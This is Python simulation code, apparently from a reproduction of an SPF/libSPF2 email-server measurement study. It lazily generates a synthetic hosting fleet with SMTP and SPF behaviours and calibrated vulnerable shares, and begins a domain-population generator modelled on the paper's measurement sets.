                        )
                    )
                return response  # apex has MX but no A in this model
        response.rcode = Rcode.NXDOMAIN
        return response


# --------------------------------------------------------------------------
# lazy fleet structure
# --------------------------------------------------------------------------

#: Domain-pool positions per unit-layout chunk (the unit of laziness).
_UNIT_CHUNK = 4096
#: Regenerated layout chunks kept in the fleet's LRU.
_LAYOUT_CACHE = 64
#: Strong LRU of materialized unit views (weak refs keep identity beyond it).
_UNIT_VIEW_CACHE = 16384


class _AffinePermutation:
    """A seeded bijection on ``range(size)`` with O(1) apply/invert."""

    __slots__ = ("size", "mult", "offset", "_inv")

    def __init__(self, rng: SeededRng, size: int) -> None:
        self.size = max(1, size)
        mult = rng.randint(1, max(1, self.size - 1))
        while math.gcd(mult, self.size) != 1:
            mult = mult % self.size + 1
        self.mult = mult
        self.offset = rng.randint(0, self.size - 1)
        self._inv = pow(mult, -1, self.size)

    def apply(self, index: int) -> int:
        return (index * self.mult + self.offset) % self.size

    def invert(self, value: int) -> int:
        return ((value - self.offset) * self._inv) % self.size


class _LayoutChunk:
    """Unit boundaries for one chunk of pool positions (parallel arrays)."""

    __slots__ = ("starts", "sizes", "ip_counts", "slot_off", "total_slots")

    def __init__(self) -> None:
        self.starts: List[int] = []
        self.sizes: List[int] = []
        self.ip_counts: List[int] = []
        #: Slot offset of each unit within the chunk's reservation.
        self.slot_off: List[int] = []
        self.total_slots = 0


class _PoolState:
    """One domain set's unit pool: permutation plus census aggregates."""

    __slots__ = (
        "name", "lo", "size", "profile", "perm", "chunk_count",
        "unit_base", "slot_base", "units_before", "slots_before",
        "n_units", "total_slots", "primary_ips",
        "small_units", "large_units", "small_domains", "large_domains",
        "elig_large_units", "elig_large_domains",
        "small_probs", "large_probs", "v_small", "v_large",
    )

    def __init__(self, name: str, lo: int, size: int, profile: FleetProfile, rng: SeededRng):
        self.name = name
        self.lo = lo  # first domain index owned by this pool
        self.size = size
        self.profile = profile
        self.perm = _AffinePermutation(rng, size)
        self.chunk_count = (size + _UNIT_CHUNK - 1) // _UNIT_CHUNK


class MtaFleet:
    """The hosting fleet as lazily regenerable state.

    Public surface matches the old eager fleet — ``units`` (list-like,
    indexable by ``unit_id``), ``unit_by_domain``/``unit_by_ip`` lookups,
    ``dns_backend``, ``build_network`` — but every access path
    materializes only what it touches:

    - unit boundaries regenerate per layout chunk from a chunk RNG fork;
    - a unit's full configuration regenerates from ``fork("unit-{id}")``;
    - addresses are slot arithmetic (every unit reserves ``2 x ip_count``
      slots; the second half exists only if the unit moves mid-campaign);
    - SMTP servers are created by the network provider on first
      connect/lookup and *synced* on every touch (refusal flips at
      ``moves_at``, patches apply once their plan date passes), replacing
      the old eagerly scheduled clock callbacks.

    The census (:meth:`_ensure_census`) runs the chunk layout draws once
    to build prefix-sum indexes and class counts — O(world) time on first
    touch but O(#chunks) memory — which feeds the calibration solver with
    counts instead of instantiated units.
    """

    def __init__(
        self,
        population: DomainPopulation,
        *,
        seed: Optional[int] = None,
        campaign_start: Optional[_dt.datetime] = None,
        alexa_profile: FleetProfile = ALEXA_PROFILE,
        two_week_profile: FleetProfile = TWO_WEEK_PROFILE,
    ) -> None:
        from ..clock import INITIAL_MEASUREMENT

        self.population = population
        self.campaign_start = campaign_start or INITIAL_MEASUREMENT
        self._root = SeededRng(
            seed if seed is not None else population.config.seed
        ).fork("fleet")
        self._geo_seed: Optional[int] = None

        table = population.table
        self.n_providers = table.n_providers
        self._pools = [
            _PoolState(
                "alexa", table.n_providers, table.n_alexa - table.n_providers,
                alexa_profile, self._root.fork("alexa-pool"),
            ),
            _PoolState(
                "two-week", table.n_alexa, table.n_two_week_only,
                two_week_profile, self._root.fork("two-week-pool"),
            ),
        ]

        # Providers are few and head the unit-id and slot spaces; their
        # ip counts are the first draw of their per-provider fork, so the
        # slot prefix is known without configuring them.
        self._provider_ip_counts = [
            self._root.fork(f"provider-{i}").randint(2, 5)
            for i in range(self.n_providers)
        ]
        self._provider_slots_before = [0]
        for count in self._provider_ip_counts:
            self._provider_slots_before.append(
                self._provider_slots_before[-1] + 2 * count
            )
        self._provider_slot_total = self._provider_slots_before[-1]

        self._census_ready = False
        self._unit_count: Optional[int] = None
        self._layouts: "OrderedDict[Tuple[str, int], _LayoutChunk]" = OrderedDict()
        self._unit_views: "weakref.WeakValueDictionary[int, HostingUnit]" = (
            weakref.WeakValueDictionary()
        )
        self._unit_lru: "OrderedDict[int, HostingUnit]" = OrderedDict()

        # Read-only cache telemetry (repro.obs.perf counter surface);
        # always-on plain integers, deterministic for an access pattern.
        self.layout_hits = 0
        self.layout_misses = 0
        self.layout_evictions = 0
        self.unit_view_hits = 0
        self.unit_materializations = 0

        self.units = _UnitSequence(self)
        self.unit_by_domain = _DomainIndex(self)
        self.unit_by_ip = _IpIndex(self)
        self.dns_backend = FleetDnsBackend(self)

    # -- census ---------------------------------------------------------------

    def _ensure_census(self) -> None:
        """Index the unit layout: prefix sums plus calibration counts."""
        if self._census_ready:
            return
        unit_base = self.n_providers
        slot_base = self._provider_slot_total
        for pool in self._pools:
            pool.unit_base = unit_base
            pool.slot_base = slot_base
            units_before, slots_before = [0], [0]
            small_u = large_u = small_d = large_d = 0
            elig_large_u = elig_large_d = primary = 0
            for chunk_index in range(pool.chunk_count):
                layout = self._layout(pool, chunk_index)
                for size, ip_count in zip(layout.sizes, layout.ip_counts):
                    primary += ip_count
                    if size < 3:
                        small_u += 1
                        small_d += size
                    else:
                        large_u += 1
                        large_d += size
                        if size <= VULNERABLE_ELIGIBILITY_MAX_DOMAINS:
                            elig_large_u += 1
                            elig_large_d += size
                units_before.append(units_before[-1] + len(layout.starts))
                slots_before.append(slots_before[-1] + layout.total_slots)
            pool.units_before = units_before
            pool.slots_before = slots_before
            pool.n_units = units_before[-1]
            pool.total_slots = slots_before[-1]
            pool.primary_ips = primary
            pool.small_units, pool.large_units = small_u, large_u
            pool.small_domains, pool.large_domains = small_d, large_d
            pool.elig_large_units = elig_large_u
            pool.elig_large_domains = elig_large_d
            if pool.n_units:
                pool.small_probs, pool.large_probs = _solve_class_probs(
                    pool.profile.ip_targets,
                    pool.profile.domain_targets,
                    unit_share_small=small_u / pool.n_units,
                    domain_share_small=(small_d) / max(1, small_d + large_d),
                )
                pool.v_small, pool.v_large = _solve_vulnerable_rates(
                    pool.profile, pool
                )
            else:
                pool.small_probs = pool.large_probs = dict(pool.profile.ip_targets)
                pool.v_small = pool.v_large = 0.0
            unit_base += pool.n_units
            slot_base += pool.total_slots
        self._unit_count = unit_base
        self._census_ready = True

    def _layout(self, pool: _PoolState, chunk_index: int) -> _LayoutChunk:
        key = (pool.name, chunk_index)
        layout = self._layouts.get(key)
        if layout is None:
            self.layout_misses += 1
            layout = self._generate_layout(pool, chunk_index)
            self._layouts[key] = layout
            while len(self._layouts) > _LAYOUT_CACHE:
                self._layouts.popitem(last=False)
                self.layout_evictions += 1
        else:
            self.layout_hits += 1
            self._layouts.move_to_end(key)
        return layout

    def _generate_layout(self, pool: _PoolState, chunk_index: int) -> _LayoutChunk:
        """Draw unit boundaries for one chunk of pool positions."""
        lo = chunk_index * _UNIT_CHUNK
        hi = min(lo + _UNIT_CHUNK, pool.size)
        rng = self._root.fork(f"{pool.name}/chunk-{chunk_index}")
        layout = _LayoutChunk()
        position = lo
        while position < hi:
            large = rng.bernoulli(pool.profile.large_unit_fraction)
            size = _sample_large_size(rng) if large else _sample_small_size(rng)
            size = min(size, hi - position)
            ip_count = 1 + (1 if rng.bernoulli(0.10) else 0)
            layout.starts.append(position)
            layout.sizes.append(size)
            layout.ip_counts.append(ip_count)
            layout.slot_off.append(layout.total_slots)
            layout.total_slots += 2 * ip_count  # second half: move targets
            position += size
        return layout

    # -- unit materialization -------------------------------------------------

    @property
    def unit_count(self) -> int:
        self._ensure_census()
        return self._unit_count  # type: ignore[return-value]

    def unit_at(self, unit_id: int) -> HostingUnit:
        """The (cached) view of one hosting unit."""
        view = self._unit_views.get(unit_id)
        if view is None:
            self.unit_materializations += 1
            view = self._materialize_unit(unit_id)
            self._unit_views[unit_id] = view
        else:
            self.unit_view_hits += 1
        self._unit_lru[unit_id] = view
        self._unit_lru.move_to_end(unit_id)
        while len(self._unit_lru) > _UNIT_VIEW_CACHE:
            self._unit_lru.popitem(last=False)
        return view

    def _materialize_unit(self, unit_id: int) -> HostingUnit:
        if unit_id < self.n_providers:
            return self._materialize_provider(unit_id)
        self._ensure_census()
        if not self.n_providers <= unit_id < self._unit_count:
            raise IndexError(unit_id)
        pool = self._pools[1] if unit_id >= self._pools[1].unit_base else self._pools[0]
        local_uid = unit_id - pool.unit_base
        chunk_index = bisect.bisect_right(pool.units_before, local_uid) - 1
        layout = self._layout(pool, chunk_index)
        local = local_uid - pool.units_before[chunk_index]
        start = layout.starts[local]
        size = layout.sizes[local]
        ip_count = layout.ip_counts[local]
        slot = pool.slot_base + pool.slots_before[chunk_index] + layout.slot_off[local]

        domains = [
            self.population.domain_at(pool.lo + pool.perm.apply(start + k))
            for k in range(size)
        ]
        rng = self._root.fork(f"unit-{unit_id}")
        probs = pool.large_probs if size >= 3 else pool.small_probs
        category = rng.weighted_choice(probs)
        if size > VULNERABLE_ELIGIBILITY_MAX_DOMAINS:
            rate = 0.0
        else:
            rate = pool.v_large if size >= 3 else pool.v_small
        unit = HostingUnit(
            unit_id=unit_id,
            domains=domains,
            ips=[_encode_slot(slot + k) for k in range(ip_count)],
            mail_hostname=f"mx.{domains[0].name}",
            category=UnitCategory.NO_SPF,
        )
        _configure_unit(unit, category, pool.profile, rate, rng, self.campaign_start)
        if unit.moves_at is not None:
            unit.new_ips = [_encode_slot(slot + ip_count + k) for k in range(ip_count)]
        if self._geo_seed is not None:
            unit.country = _unit_country(self._geo_seed, unit_id, unit.primary_tld)
        return unit

    def _materialize_provider(self, unit_id: int) -> HostingUnit:
        rng = self._root.fork(f"provider-{unit_id}")
        ip_count = rng.randint(2, 5)  # same first draw as the census prefix
        slot = self._provider_slots_before[unit_id]
        domain = self.population.domain_at(unit_id)
        unit = HostingUnit(
            unit_id=unit_id,
            domains=[domain],
            ips=[_encode_slot(slot + k) for k in range(ip_count)],
            mail_hostname=f"mx.{domain.name}",
            category=UnitCategory.NO_SPF,
        )
        _configure_provider_unit(unit, domain, rng)
        if unit.moves_at is not None:
            unit.new_ips = [_encode_slot(slot + ip_count + k) for k in range(ip_count)]
        if self._geo_seed is not None:
            unit.country = _unit_country(self._geo_seed, unit_id, unit.primary_tld)
        return unit

    def perf_counters(self) -> Dict[str, int]:
        """Read-only layout/unit cache telemetry (deterministic counts)."""
        return {
            "fleet.layout_hits": self.layout_hits,
            "fleet.layout_misses": self.layout_misses,
            "fleet.layout_evictions": self.layout_evictions,
            "fleet.unit_view_hits": self.unit_view_hits,
            "fleet.unit_materializations": self.unit_materializations,
            "fleet.dns_answers": self.dns_backend.query_count,
        }

    # -- lookups --------------------------------------------------------------

    def _unit_id_for_domain_index(self, index: int) -> int:
        if index < self.n_providers:
            return index
        self._ensure_census()
        pool = self._pools[0] if index < self._pools[1].lo else self._pools[1]
        position = pool.perm.invert(index - pool.lo)
        chunk_index = position // _UNIT_CHUNK
        layout = self._layout(pool, chunk_index)
        local = bisect.bisect_right(layout.starts, position) - 1
        return pool.unit_base + pool.units_before[chunk_index] + local

    def _unit_for_domain(self, name: str) -> Optional[HostingUnit]:
        index = self.population.index_of(name)
        if index is None:
            return None
        return self.unit_at(self._unit_id_for_domain_index(index))

    def _locate_slot(self, slot: int) -> Optional[Tuple[int, int, int]]:
        """Slot → ``(unit_id, offset in reservation, ip_count)``."""
        if slot < self._provider_slot_total:
            i = bisect.bisect_right(self._provider_slots_before, slot) - 1
            return i, slot - self._provider_slots_before[i], self._provider_ip_counts[i]
        self._ensure_census()
        for pool in self._pools:
            rel = slot - pool.slot_base
            if 0 <= rel < pool.total_slots:
                chunk_index = bisect.bisect_right(pool.slots_before, rel) - 1
                layout = self._layout(pool, chunk_index)
                local_slot = rel - pool.slots_before[chunk_index]
                local = bisect.bisect_right(layout.slot_off, local_slot) - 1
                offset = local_slot - layout.slot_off[local]
                unit_id = pool.unit_base + pool.units_before[chunk_index] + local
                return unit_id, offset, layout.ip_counts[local]
        return None

    def _unit_for_ip(self, ip: str) -> Optional[HostingUnit]:
        slot = _decode_slot(ip)
        if slot is None:
            return None
        located = self._locate_slot(slot)
        if located is None:
            return None
        unit_id, offset, ip_count = located
        unit = self.unit_at(unit_id)
        if offset < ip_count:
            return unit
        # Second-half slots are assigned only if the unit actually moves.
        return unit if ip in unit.new_ips else None

    # -- aggregate views ------------------------------------------------------

    @property
    def all_ips(self) -> List[str]:
        """Every primary address (materializes the whole fleet — prefer
        :meth:`total_ip_count` when only the number is needed)."""
        out: List[str] = []
        for unit in self.units:
            out.extend(unit.ips)
        return out

    def total_ip_count(self) -> int:
        """Number of primary addresses, from the census (no units built)."""
        self._ensure_census()
        return sum(self._provider_ip_counts) + sum(p.primary_ips for p in self._pools)

    def total_slot_count(self) -> int:
        """Reserved address slots (primary plus potential move targets)."""
        self._ensure_census()
        return self._provider_slot_total + sum(p.total_slots for p in self._pools)

    def vulnerable_units(self) -> List[HostingUnit]:
        return [u for u in self.units if u.is_vulnerable]

    def vulnerable_domains(self) -> List[Domain]:
        out: List[Domain] = []
        for unit in self.vulnerable_units():
            out.extend(unit.domains)
        return out

    # -- dynamics -------------------------------------------------------------

    def bind_geography(self, seed: int) -> None:
        """Give units a deterministic country on materialization."""
        self._geo_seed = seed
        for unit_id, unit in list(self._unit_views.items()):
            unit.country = _unit_country(seed, unit_id, unit.primary_tld)

    def sync_server(
        self,
        server: SmtpServer,
        now: _dt.datetime,
        patch_model=None,
    ) -> None:
        """Bring one server's time-dependent state up to ``now``.

        Replaces the old scheduled patch/move callbacks: refusal is a
        pure function of the unit's category and move date, and patching
        applies (idempotently) once the unit's plan date has passed.
        Both transitions are monotone, so touch order cannot diverge
        between executors or across a snapshot restore.
        """
        unit = self._unit_for_ip(server.ip)
        if unit is None:
            return
        moved = _unit_moved(unit, now)
        if server.ip in unit.new_ips:
            server.policy.refuse_connections = not moved
        else:
            server.policy.refuse_connections = (
                unit.category == UnitCategory.REFUSE or moved
            )
        if patch_model is not None and server.is_vulnerable and unit.is_vulnerable:
            if patch_model.plan_for(unit).patched_by(now):
                server.patch()

    def build_network(
        self,
        clock_fn: Callable[[], _dt.datetime],
        resolver_backend: DnsBackend,
        *,
        ip_filter: Optional[Callable[[str], bool]] = None,
    ) -> Network:
        """A lazy network over the fleet's address space.

        Servers materialize on first touch (probe, notification, or
        snapshot restore) and are cached by the network, so memory tracks
        the probed set.  ``resolver_backend`` is the DNS path the
        servers' SPF validators query.  ``ip_filter`` restricts the
        addressable set — a shard-world replica answers only for the
        addresses its shard owns and ``server_at`` returns ``None`` for
        the holes, exactly as the eager per-shard registration did.
        """
        provider = _FleetServerProvider(self, clock_fn, resolver_backend, ip_filter)
        return Network(clock=clock_fn, provider=provider)

    def _build_server(
        self,
        unit: HostingUnit,
        ip: str,
        clock_fn: Callable[[], _dt.datetime],
        resolver_backend: DnsBackend,
    ) -> SmtpServer:
        policy = ServerPolicy(
            refuse_connections=unit.category == UnitCategory.REFUSE
            or ip in unit.new_ips,  # new addresses come alive at move time
            failure_stage=unit.failure_stage,
            spf_timing=unit.spf_timing,
            greylist=GreylistPolicy(enabled=unit.greylists, retry_after_seconds=300),
            recipients=RecipientPolicy(accept_any=True),
            blacklists_after_probes=unit.blacklists_after,
            flaky_rate=unit.flaky_rate,
        )
        stacks: List[SpfStack] = []
        if unit.behavior_name is not None:
            stacks.append(SpfStack.named(unit.behavior_name, unit.spf_timing))
        if unit.second_behavior_name is not None:
            stacks.append(SpfStack.named(unit.second_behavior_name, unit.second_timing))
        resolver = StubResolver(resolver_backend, identity=ip, clock=clock_fn)
        return SmtpServer(
            ip,
            hostname=unit.mail_hostname,
            policy=policy,
            spf_stacks=stacks,
            resolver=resolver,
        )


class _UnitSequence:
    """List-like lazy view over a fleet's hosting units (by unit id)."""

    __slots__ = ("_fleet",)

    def __init__(self, fleet: MtaFleet) -> None:
        self._fleet = fleet

    def __len__(self) -> int:
        return self._fleet.unit_count

    def __getitem__(self, item):
        size = len(self)
        if isinstance(item, slice):
            return [self._fleet.unit_at(i) for i in range(*item.indices(size))]
        if item < 0:
            item += size
        if not 0 <= item < size:
            raise IndexError(item)
        return self._fleet.unit_at(item)

    def __iter__(self) -> Iterator[HostingUnit]:
        for unit_id in range(len(self)):
            yield self._fleet.unit_at(unit_id)


class _DomainIndex:
    """``unit_by_domain``: domain name → owning unit, computed on access."""

    __slots__ = ("_fleet",)

    def __init__(self, fleet: MtaFleet) -> None:
        self._fleet = fleet

    def get(self, name: str, default=None):
        unit = self._fleet._unit_for_domain(name)
        return default if unit is None else unit

    def __getitem__(self, name: str) -> HostingUnit:
        unit = self._fleet._unit_for_domain(name)
        if unit is None:
            raise KeyError(name)
        return unit

    def __contains__(self, name: str) -> bool:
        return self._fleet._unit_for_domain(name) is not None


class _IpIndex:
    """``unit_by_ip``: address → owning unit, computed on access."""

    __slots__ = ("_fleet",)

    def __init__(self, fleet: MtaFleet) -> None:
        self._fleet = fleet

    def get(self, ip: str, default=None):
        unit = self._fleet._unit_for_ip(ip)
        return default if unit is None else unit

    def __getitem__(self, ip: str) -> HostingUnit:
        unit = self._fleet._unit_for_ip(ip)
        if unit is None:
            raise KeyError(ip)
        return unit

    def __contains__(self, ip: str) -> bool:
        return self._fleet._unit_for_ip(ip) is not None


class _FleetServerProvider:
    """The network's hook into the lazy fleet.

    ``create`` materializes the server for an address on first touch;
    ``sync`` is called on *every* touch to fold time-dependent dynamics
    (moves, patches) into the cached instance.
    """

    __slots__ = ("_fleet", "_clock_fn", "_resolver_backend", "_ip_filter")

    def __init__(
        self,
        fleet: MtaFleet,
        clock_fn: Callable[[], _dt.datetime],
        resolver_backend: DnsBackend,
        ip_filter: Optional[Callable[[str], bool]] = None,
    ) -> None:
        self._fleet = fleet
        self._clock_fn = clock_fn
        self._resolver_backend = resolver_backend
        self._ip_filter = ip_filter

    def _accepts(self, ip: str) -> bool:
        return self._ip_filter is None or self._ip_filter(ip)

    def create(self, ip: str) -> Optional[SmtpServer]:
        if not self._accepts(ip):
            return None
        unit = self._fleet._unit_for_ip(ip)
        if unit is None:
            return None
        return self._fleet._build_server(
            unit, ip, self._clock_fn, self._resolver_backend
        )

    def sync(self, server: SmtpServer, now: _dt.datetime, patch_model=None) -> None:
        self._fleet.sync_server(server, now, patch_model)

    def has(self, ip: str) -> bool:
        return self._accepts(ip) and self._fleet._unit_for_ip(ip) is not None

    def addressable_ips(self) -> Iterator[str]:
        for unit in self._fleet.units:
            for ip in unit.all_ips:
                if self._accepts(ip):
                    yield ip


# --------------------------------------------------------------------------
# generation
# --------------------------------------------------------------------------


def _sample_small_size(rng: SeededRng) -> int:
    return 1 if rng.bernoulli(0.7) else 2


def _sample_large_size(rng: SeededRng) -> int:
    roll = rng.uniform(0.0, 1.0)
    if roll < 0.70:
        return rng.randint(3, 8)
    if roll < 0.95:
        return rng.randint(9, 40)
    return rng.randint(50, 400)


def _solve_class_probs(
    ip_targets: Dict[UnitCategory, float],
    domain_targets: Dict[UnitCategory, float],
    unit_share_small: float,
    domain_share_small: float,
) -> Tuple[Dict[UnitCategory, float], Dict[UnitCategory, float]]:
    """Per-class bucket probabilities hitting both target vectors.

    Solves, per bucket, the 2x2 system::

        u_s * p_s + u_l * p_l = ip_target
        d_s * p_s + d_l * p_l = domain_target

    then clamps to [0, 1] and renormalizes each class vector.
    """
    u_s, u_l = unit_share_small, 1.0 - unit_share_small
    d_s, d_l = domain_share_small, 1.0 - domain_share_small
    det = u_s * d_l - u_l * d_s
    if abs(det) < 1e-9:
        return dict(ip_targets), dict(ip_targets)
    small: Dict[UnitCategory, float] = {}
    large: Dict[UnitCategory, float] = {}
    for category in _CATEGORIES:
        ip_t = ip_targets[category]
        dom_t = domain_targets[category]
        small[category] = max(0.0, (d_l * ip_t - u_l * dom_t) / det)
        large[category] = max(0.0, (u_s * dom_t - d_s * ip_t) / det)
    for probs in (small, large):
        total = sum(probs.values())
        if total <= 0:
            raise SimulationError("degenerate class probabilities")
        for category in probs:
            probs[category] /= total
    return small, large


#: Units hosting more than this many domains never run vulnerable libSPF2:
#: the paper's vulnerable-host profile (18,660 domains on 7,212 addresses,
#: ~2.6 domains each) shows mega-hosts ran maintained software.
VULNERABLE_ELIGIBILITY_MAX_DOMAINS = 40


def _solve_vulnerable_rates(
    profile: FleetProfile, pool: _PoolState
) -> Tuple[float, float]:
    """Per-class vulnerable probabilities among measured units.

    Hits the paper's address-level (17%) *and* domain-level (8.7%)
    vulnerable shares simultaneously: big measured hosts run maintained
    software, so vulnerability skews toward small operators.  Operates
    purely on the census *counts* — expected measured units/domains per
    class under the solved bucket probabilities — so no unit needs to be
    instantiated.  Mega-units (past the eligibility cap) contribute to
    the denominators but can never be vulnerable, so the targets are
    rescaled onto the eligible subset before solving.
    """
    p_small = sum(pool.small_probs[c] for c in _CATEGORIES if c.validates_spf)
    p_large = sum(pool.large_probs[c] for c in _CATEGORIES if c.validates_spf)
    measured_units = pool.small_units * p_small + pool.large_units * p_large
    measured_domains = pool.small_domains * p_small + pool.large_domains * p_large
    elig_units = pool.small_units * p_small + pool.elig_large_units * p_large
    elig_domains = pool.small_domains * p_small + pool.elig_large_domains * p_large
    if elig_units <= 0 or elig_domains <= 0:
        return 0.0, 0.0

    # All vulnerable units/domains must come from the eligible subset.
    ip_target = min(
        0.95, profile.vulnerable_ip_share * measured_units / elig_units
    )
    domain_target = min(
        0.95, profile.vulnerable_domain_share * measured_domains / elig_domains
    )

    u_s = pool.small_units * p_small / elig_units
    u_l = pool.elig_large_units * p_large / elig_units
    d_s = pool.small_domains * p_small / elig_domains
    d_l = pool.elig_large_domains * p_large / elig_domains
    det = u_s * d_l - u_l * d_s
    clamp = lambda v: min(0.9, max(0.0, v))
    if abs(det) < 1e-9:
        return clamp(ip_target), clamp(ip_target)
    v_small = (d_l * ip_target - u_l * domain_target) / det
    v_large = (u_s * domain_target - d_s * ip_target) / det
    return clamp(v_small), clamp(v_large)


_NOMSG_FAILURE_STAGES = (
    (FailureStage.BANNER, 0.30),
    (FailureStage.HELO, 0.10),
    (FailureStage.MAIL_FROM, 0.25),
    (FailureStage.RCPT_TO, 0.20),
    (FailureStage.DATA, 0.15),
)

_ERRONEOUS_SECOND = (
    ("rfc-compliant", 0.80),
    ("no-expansion", 0.10),
    ("truncated-not-reversed", 0.05),
    ("reversed-not-truncated", 0.05),
)


def _configure_unit(
    unit: HostingUnit,
    category: UnitCategory,
    profile: FleetProfile,
    vulnerable_rate: float,
    rng: SeededRng,
    campaign_start: _dt.datetime,
) -> None:
    """Fill in a unit's SMTP/SPF configuration for its assigned bucket."""
    unit.category = category
    if category == UnitCategory.REFUSE:
        return
    unit.accepts_postmaster = rng.bernoulli(0.684)  # 1 - the 31.6% bounce rate
    if category == UnitCategory.SMTP_FAILURE:
        unit.failure_stage = rng.categorical(_NOMSG_FAILURE_STAGES)
        return
    if category == UnitCategory.MESSAGE_FAILURE:
        unit.failure_stage = FailureStage.MESSAGE
        return

    if category == UnitCategory.SPF_NOMSG:
        unit.spf_timing = rng.categorical(
            [(SpfTiming.ON_MAIL_FROM, 0.8), (SpfTiming.ON_DATA_COMMAND, 0.2)]
        )
    elif category == UnitCategory.SPF_BLANKMSG:
        unit.spf_timing = SpfTiming.AFTER_MESSAGE
    else:  # NO_SPF
        unit.greylists = rng.bernoulli(profile.greylist)
        return

    unit.behavior_name = profile.behavior_mix.sample(rng, vulnerable=vulnerable_rate)
    if rng.bernoulli(profile.multi_stack):
        # A second SPF consumer in the mail path (spam filter, second
        # hop) with a *distinct* implementation, validating at the same
        # point so the probe observes both expansion patterns (§7.9).
        second = rng.categorical(_ERRONEOUS_SECOND)
        if second == unit.behavior_name:
            second = (
                "no-expansion"
                if unit.behavior_name != "no-expansion"
                else "truncated-not-reversed"
            )
        unit.second_behavior_name = second
        unit.second_timing = unit.spf_timing
    unit.greylists = rng.bernoulli(profile.greylist)
    if rng.bernoulli(profile.flaky):
        unit.flaky_rate = profile.flaky_rate

    # High-profile infrastructure (the Alexa Top 1000) filtered the
    # prober aggressively and moved addresses during the study — the
    # paper lost conclusive results for many top-1000 domains around
    # mid-November and only the re-resolving snapshot settled them.
    high_profile = any(d.in_set(DomainSet.ALEXA_1000) for d in unit.domains)
    blacklist_p = 0.5 if high_profile else profile.blacklist
    if unit.is_large and not high_profile:
        # Big shared hosts rate-limit rather than hard-block: persistent
        # blacklisting concentrates in small self-hosted servers (keeps
        # the snapshot's unknown share domain-weighted like the paper's).
        blacklist_p *= 0.25
    move_p = 0.4 if high_profile else profile.move
    if rng.bernoulli(blacklist_p):
        unit.blacklists_after = rng.randint(3, 14)
    if rng.bernoulli(move_p):
        unit.moves_at = campaign_start + _dt.timedelta(days=rng.randint(10, 100))


def _unit_country(geo_seed: int, unit_id: int, primary_tld: str) -> str:
    """A unit's deterministic country (ccTLD pin or a seeded draw)."""
    country = TldModel.country_for(primary_tld)
    if country is None:
        rng = SeededRng(geo_seed).fork("geo").fork(f"unit-{unit_id}")
        country = rng.weighted_choice(GENERIC_TLD_COUNTRY_MIX)
    return country


def build_fleet(
    population: DomainPopulation,
    *,
    seed: Optional[int] = None,
    campaign_start: Optional[_dt.datetime] = None,
    alexa_profile: FleetProfile = ALEXA_PROFILE,
    two_week_profile: FleetProfile = TWO_WEEK_PROFILE,
) -> MtaFleet:
    """The (lazy) hosting fleet for a population.

    Returns in O(1): units, addresses, servers, and DNS answers all
    regenerate deterministically on first touch.
    """
    return MtaFleet(
        population,
        seed=seed,
        campaign_start=campaign_start,
        alexa_profile=alexa_profile,
        two_week_profile=two_week_profile,
    )


def _configure_provider_unit(unit: HostingUnit, domain: Domain, rng: SeededRng) -> None:
    """Top email providers: never refuse; mostly measurable (Table 3)."""
    from ..clock import INITIAL_MEASUREMENT

    unit.accepts_postmaster = True
    if domain.name in VULNERABLE_PROVIDER_DOMAINS:
        unit.category = UnitCategory.SPF_BLANKMSG
        unit.spf_timing = SpfTiming.AFTER_MESSAGE
        unit.behavior_name = "vulnerable-libspf2"
        # Big providers filter repeat probing and shuffle frontends; the
        # paper lost longitudinal results for them and settled their
        # status only in the re-resolving snapshot (Section 7.5).
        unit.blacklists_after = rng.randint(6, 18)
        unit.moves_at = INITIAL_MEASUREMENT + _dt.timedelta(days=rng.randint(25, 60))
        return
    bucket = rng.categorical(
        [
            (UnitCategory.SPF_NOMSG, 0.25),
            (UnitCategory.SPF_BLANKMSG, 0.40),
            (UnitCategory.SMTP_FAILURE, 0.10),
            (UnitCategory.MESSAGE_FAILURE, 0.20),
            (UnitCategory.NO_SPF, 0.05),
        ]
    )
    unit.category = bucket
    if bucket == UnitCategory.SMTP_FAILURE:
        unit.failure_stage = FailureStage.RCPT_TO
    elif bucket == UnitCategory.MESSAGE_FAILURE:
        unit.failure_stage = FailureStage.MESSAGE
    elif bucket == UnitCategory.SPF_NOMSG:
        unit.spf_timing = SpfTiming.ON_MAIL_FROM
        unit.behavior_name = "rfc-compliant"
    elif bucket == UnitCategory.SPF_BLANKMSG:
        unit.spf_timing = SpfTiming.AFTER_MESSAGE
        unit.behavior_name = "rfc-compliant"
