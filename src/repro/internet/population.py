"""Domain population generation.

Generates the paper's two measurement sets — the **Alexa Top List**
(418,842 domains, October 2021 snapshot) and the **2-Week MX** set
(22,911 email domains observed at a university) — plus the **Alexa Top
1000** subset and the **Top Email Providers** list (Foster et al.'s 20
most-common email services), with the paper's overlaps (Table 1) and TLD
mix (Table 2).

Everything scales with ``PopulationConfig.scale`` so tests run on a small
Internet and benches can approach the paper's full counts.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Tuple

from ..errors import SimulationError
from .rng import SeededRng
from .tld import ALEXA_TLD_WEIGHTS, ALEXA_TOTAL, TWO_WEEK_TLD_WEIGHTS, TWO_WEEK_TOTAL


class DomainSet(enum.Flag):
    """Measurement-set membership (a domain may be in several)."""

    ALEXA_TOP_LIST = enum.auto()
    ALEXA_1000 = enum.auto()
    TWO_WEEK_MX = enum.auto()
    TOP_EMAIL_PROVIDERS = enum.auto()


#: The 20 most common email services (after Foster et al. [6]); the paper's
#: Table 3 "Top Email Providers" column tests these domains.
TOP_EMAIL_PROVIDER_DOMAINS: Tuple[str, ...] = (
    "gmail.com", "outlook.com", "yahoo.com", "icloud.com", "aol.com",
    "mail.ru", "naver.com", "hotmail.com", "comcast.net", "verizon.net",
    "qq.com", "163.com", "gmx.de", "web.de", "daum.net",
    "seznam.cz", "wp.pl", "o2.pl", "interia.pl", "yandex.ru",
)

#: Providers the paper found vulnerable (Section 7.5) — international
#: services inside the Alexa Top 1000.
VULNERABLE_PROVIDER_DOMAINS: Tuple[str, ...] = (
    "naver.com", "mail.ru", "wp.pl", "seznam.cz",
)


@dataclass
class Domain:
    """One measured email domain."""

    name: str
    tld: str
    sets: DomainSet
    alexa_rank: Optional[int] = None
    mx_query_count: Optional[int] = None
    provider_name: Optional[str] = None

    def in_set(self, domain_set: DomainSet) -> bool:
        return bool(self.sets & domain_set)


@dataclass(frozen=True)
class PopulationConfig:
    """Knobs for population generation.

    ``scale`` multiplies the paper's set sizes (1.0 = full size).  The
    Table 1 overlap fractions are preserved at every scale.
    """

    scale: float = 0.05
    seed: int = 20211011
    #: Fraction of the 2-Week MX set also present in the Alexa Top List
    #: (Table 1: 2,922 / 22,911).
    two_week_alexa_overlap: float = 2_922 / 22_911
    #: Fraction of the 2-Week MX set also present in the Alexa Top 1000
